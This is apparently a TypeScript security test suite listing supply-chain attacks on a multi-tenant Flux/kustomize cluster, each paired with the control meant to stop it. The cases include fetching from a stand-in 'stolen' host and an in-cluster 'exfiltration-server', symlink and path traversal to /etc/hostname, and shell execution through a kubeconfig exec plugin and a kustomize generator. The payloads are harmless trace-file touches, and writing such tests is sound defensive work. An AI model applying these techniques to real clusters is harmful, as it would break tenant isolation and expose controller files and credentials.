import { stringify } from "yaml";
import { secret } from "../../support/objects/configuration.js";
import { type Fields, NAME, reference } from "../../support/objects/object.js";
import { chartFile, configMapFile, kustomizationFile } from "../../support/objects/repository-files.js";
import { attacksOf, type Link, type Place } from "../attack.js";
import { chartOf, STOLEN, syncOf } from "../tenant-objects.js";

/** A kustomization of resources, or of other fields, and a ConfigMap that shows that it was applied. */
function kustomized(place: Place, name: string, fields: Fields, files: Readonly<Record<string, string | Link>> = {}) {
  return {
    kind: "sync",
    object: syncOf(place, name),
    files: { "kustomization.yaml": kustomizationFile(fields), ...files },
    evidence: reference("ConfigMap", { name, namespace: place.namespace }),
  } as const;
}

/** Content of a tenant's own repository that brings in content from elsewhere. */
export const repositoryContent = attacksOf("supply chain", [
  {
    id: "remote-file",
    title: "pushes a kustomization with a file of another host",
    by: "push",
    stoppedBy: [{ control: "remote-files", message: /remote-files-are-not-allowed\.invalid/ }],
    attempt: (place) => ({
      ...kustomized(place, "remote-file", { resources: ["http://files.example.com/stolen.yaml"] }),
      evidence: reference("ConfigMap", { name: "from-elsewhere", namespace: place.namespace }),
    }),
  },
  {
    id: "chart-dependency",
    title: "pushes a chart with a dependency that is fetched unencrypted, from a host that is not allowed",
    by: "push",
    stoppedBy: [{ control: "plain-http", message: /unencrypted-sources-are-not-allowed\.invalid/ }],
    attempt: (place) => ({
      kind: "sync",
      object: chartOf(place, "chart-dependency"),
      files: {
        "Chart.yaml": chartFile("chart-dependency", {
          dependencies: [{ ...STOLEN, repository: "http://charts.example.com" }],
        }),
      },
      evidence: "ready",
    }),
  },
  {
    id: "file-of-a-service",
    title: "pushes a kustomization with a file of a Service within the cluster, which records every request",
    by: "push",
    stoppedBy: [{ control: "remote-files", message: /remote-files-are-not-allowed\.invalid/ }],
    attempt: (place) => ({
      ...kustomized(place, "file-of-a-service", {
        resources: [`http://exfiltration-server.${place.namespace}.svc.cluster.local/config.yaml`],
      }),
      evidence: "ready",
    }),
  },
  {
    id: "remote-base",
    title: "pushes a kustomization with a base in another repository",
    by: "push",
    stoppedBy: [
      { control: "git-protocols", message: /transport 'http' not allowed/ },
      { control: "remote-bases", message: /fs-security-constraint|must build at directory/ },
    ],
    attempt: (place) =>
      kustomized(place, "remote-base", { resources: [`${place.gitHub}acme/shared-bases.git//base?ref=main`] }),
  },
  {
    id: "exec-plugin",
    title: "runs a program in kustomize-controller by a kubeconfig",
    stoppedBy: [
      { control: "fleet-flux-sync", message: /spec\.kubeConfig leads to another cluster: remove it/ },
      { control: "exec-plugins", message: /Unauthorized|asked for the client to provide credentials|forbidden/ },
    ],
    attempt: (place) => ({
      kind: "sync",
      object: syncOf(place, "exec-plugin", { kubeConfig: { secretRef: { name: "exec-plugin" } } }),
      files: { "config.yaml": configMapFile("exec-plugin") },
      beside: [secret({ ...place, name: "exec-plugin" }, { value: execKubeConfig(place) })],
      evidence: "trace",
    }),
  },
  {
    id: "symbolic-link",
    title: "pushes a symbolic link to a file of the controller",
    by: "push",
    stoppedBy: [{ control: "regular-files", message: /attacks\/symbolic-link\/token: no such file or directory/ }],
    attempt: (place) =>
      kustomized(
        place,
        "symbolic-link",
        { configMapGenerator: [{ name: "symbolic-link", files: ["token"] }], generatorOptions },
        { token: { link: "/etc/hostname" } },
      ),
    counterpart: (place) =>
      kustomized(
        place,
        "no-symbolic-link",
        { configMapGenerator: [{ name: "no-symbolic-link", files: ["token"] }], generatorOptions },
        { token: "a file" },
      ),
  },
  {
    id: "path-traversal",
    title: "pushes a kustomization that reads files outside the repository",
    by: "push",
    stoppedBy: [{ control: "secure-file-system", message: /fs-security-constraint .* is not in or below/ }],
    attempt: (place) =>
      kustomized(place, "path-traversal", {
        configMapGenerator: [{ name: "path-traversal", files: [`${"../".repeat(30)}etc/hostname`] }],
        generatorOptions,
      }),
    counterpart: (place) =>
      kustomized(
        place,
        "no-path-traversal",
        { configMapGenerator: [{ name: "no-path-traversal", files: ["../no-path-traversal/file"] }], generatorOptions },
        { file: "a file" },
      ),
  },
  {
    id: "helm-generator",
    title: "pushes a kustomization that runs helm in kustomize-controller",
    by: "push",
    stoppedBy: [{ control: "no-plugins", message: /builtin HelmChartInflationGenerator/ }],
    attempt: (place) =>
      kustomized(
        place,
        "helm-generator",
        { helmCharts: [{ name: "chart", releaseName: "chart" }] },
        {
          "charts/chart/Chart.yaml": chartFile("chart"),
          "charts/chart/templates/config.yaml": configMapFile("helm-generator"),
        },
      ),
    counterpart: (place) =>
      kustomized(
        place,
        "no-helm-generator",
        { resources: ["charts/chart/templates/config.yaml"] },
        { "charts/chart/templates/config.yaml": configMapFile("no-helm-generator") },
      ),
  },
  {
    id: "exec-generator",
    title: "pushes a kustomization that runs a program in kustomize-controller",
    by: "push",
    stoppedBy: [{ control: "no-plugins", message: /external plugins disabled/ }],
    attempt: (place) => ({
      ...kustomized(
        place,
        "exec-generator",
        { generators: ["generator.yaml"] },
        { "generator.yaml": generator("exec", "./program"), program: `#!/bin/sh\ntouch '${place.trace}'\n` },
      ),
      evidence: "trace",
    }),
    counterpart: (place) =>
      kustomized(
        place,
        "no-exec-generator",
        { resources: ["config.yaml"] },
        { "config.yaml": configMapFile("no-exec-generator") },
      ),
  },
]);

/** Without a hash of its content behind a generated name. */
const generatorOptions = { disableNameSuffixHash: true };

/** A generator of kustomize's, as it is run outside of a cluster. */
function generator(runtime: string, path: string): string {
  const how = stringify({ [runtime]: { path } });
  return stringify({
    apiVersion: "example.com/v1",
    kind: "Generator",
    metadata: { name: NAME, annotations: { "config.kubernetes.io/function": how } },
  });
}

/** A kubeconfig whose user a program provides. */
function execKubeConfig({ apiServer, apiCertificate, trace }: Place): string {
  return stringify({
    apiVersion: "v1",
    kind: "Config",
    "current-context": "own",
    contexts: [{ name: "own", context: { cluster: "own", user: "own" } }],
    clusters: [{ name: "own", cluster: { server: apiServer, "certificate-authority-data": apiCertificate } }],
    users: [
      {
        name: "own",
        user: {
          exec: {
            apiVersion: "client.authentication.k8s.io/v1",
            command: "/bin/sh",
            args: ["-c", `touch '${trace}'`],
            interactiveMode: "Never",
          },
        },
      },
    ],
  });
}
